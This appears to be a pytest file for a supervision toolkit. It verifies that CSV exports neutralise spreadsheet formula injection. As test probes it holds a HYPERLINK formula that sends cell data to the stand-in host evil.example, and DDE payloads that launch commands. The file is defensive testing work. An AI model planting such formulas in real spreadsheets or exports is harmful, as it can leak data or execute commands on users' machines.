"""Issue 19, finding 2: no live formulas in any CSV the toolkit writes.

Each writer is given the probe's cells and its file is read back with the ``csv`` module:
the cell is there as text with a leading quote, and numbers are still numbers.
"""
from __future__ import annotations

import csv
import io

import pytest

from supervision_kit.cli.main import main
from supervision_kit.domain.records import ActionItem, Case
from supervision_kit.io import safe_csv
from tests.rules_store import D, hold, person, store

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_rule():
    for bad in (HYPERLINK, CALC, "+1+1", "-2+3", "\t=1", "\r=1", "-cmd"):
        assert safe_csv.neutralise(bad) == "'" + bad
    for fine in ("Visit", "", "'=1", "-3", "+44", "1e5", "-0.5", 7, -3.5, None):
        assert safe_csv.neutralise(fine) == fine
    assert cells(safe_csv.rows_text([[HYPERLINK, -3, "-3"]], ["a", "b", "c"])) == \
        [["a", "b", "c"], ["'" + HYPERLINK, "-3", "-3"]]


@pytest.fixture
def rules_db(tmp_path):
    """A drifting case whose reference and worker's name are formulas, and an overdue
    action whose description is one."""
    tk = store(tmp_path, [person("A", name=HYPERLINK)],
               [Case("C", CALC, "A", "child protection plan", D("2025-11-03"))])
    for date in ("2025-12-01", "2025-12-15", "2026-01-05"):
        hold(tk, "A", date, discussions=[("C", "A")],
             actions=[ActionItem(HYPERLINK, owner_id="A", due_date=D("2026-01-09"), case_id="C",
                                 id="X1")] if date == "2026-01-05" else [])
    return str(tk.engine.url.database)


@pytest.mark.parametrize("argv, column, probe", [
    (["due", "--what", "supervision", "--as-of", "2026-02-10"], "name", HYPERLINK),
    (["drift", "--as-of", "2026-01-06"], "reference", CALC),
    (["drift", "--as-of", "2026-01-06"], "worker", HYPERLINK),
    (["actions", "--overdue", "--as-of", "2026-01-12"], "description", HYPERLINK),
])
def test_cli_csv_neutralises_formulas(rules_db, capsys, argv, column, probe):
    assert main([*argv, "--db", rules_db, "--as-user", "sam", "--format", "csv"]) == 0
    rows = cells(capsys.readouterr().out)
    header, first = rows[0], rows[1]
    assert first[header.index(column)] == "'" + probe
    assert not any(c.startswith(safe_csv.TRIGGERS) and not safe_csv._NUMBER.fullmatch(c)
                   for r in rows for c in r)
    if "days_overdue" in header:  # numbers stay numbers
        assert int(first[header.index("days_overdue")]) > 0


def test_training_results_csv_neutralises_formulas(tmp_path):
    from supervision_kit.domain.records import Practitioner
    from supervision_kit.facade import Toolkit
    from tests.fixtures_db import build_world
    system = build_world(tmp_path / "train.sqlite")
    system.add_practitioners([Practitioner("T1", "Tess Trainer", "tess", role="trainer")])
    tess = system.as_user("tess")
    xid, code = tess.create_exercise(["cin_disguised_compliance"])
    ann = Toolkit.trainee(system.engine.url.database, code, "Ann")
    ann.rate("cin_disguised_compliance", 0, "A", CALC)
    path = tmp_path / "results.csv"
    tess.export_results_csv(xid, path)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["rationale"] == "'" + CALC
    assert rows[0]["update"] == "1"  # a number, not text


def test_research_export_csvs_neutralise_formulas(tmp_path):
    from supervision_kit.facade import Toolkit
    from tests.test_anonymise import KEY, _dataset
    data = _dataset()
    data["actions"][0]["description"] = HYPERLINK
    data["case_discussions"][0]["answers"]["plan"] = "-cmd|' /C calc'!A0 then visit"
    Toolkit.system(tmp_path / "s.sqlite").import_dataset(data)
    out = tmp_path / "export"
    Toolkit(tmp_path / "s.sqlite", "rferncastle").anonymise(out, KEY, as_of="2025-07-01")
    found = {}
    for path in sorted(out.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for c in row:
                    assert not (c.startswith(safe_csv.TRIGGERS) and not safe_csv._NUMBER.fullmatch(c)), \
                        (path.name, c)
                    if c.startswith("'"):
                        found.setdefault(path.name, []).append(c)
    # The formula survives redaction of its URL, but as text.
    assert any(c.startswith("'=HYPERLINK(") for c in found["actions.csv"]), found
    assert any(c.startswith("'-cmd") for c in found.get("case_discussions.csv", [])), found


def test_report_csvs_go_through_the_writer(tmp_path):
    path = safe_csv.write_dicts(tmp_path / "k.csv", ["team", "cases"],
                                [{"team": "=1+1", "cases": 5}])
    with open(path, newline="", encoding="utf-8") as f:
        assert list(csv.reader(f)) == [["team", "cases"], ["'=1+1", "5"]]
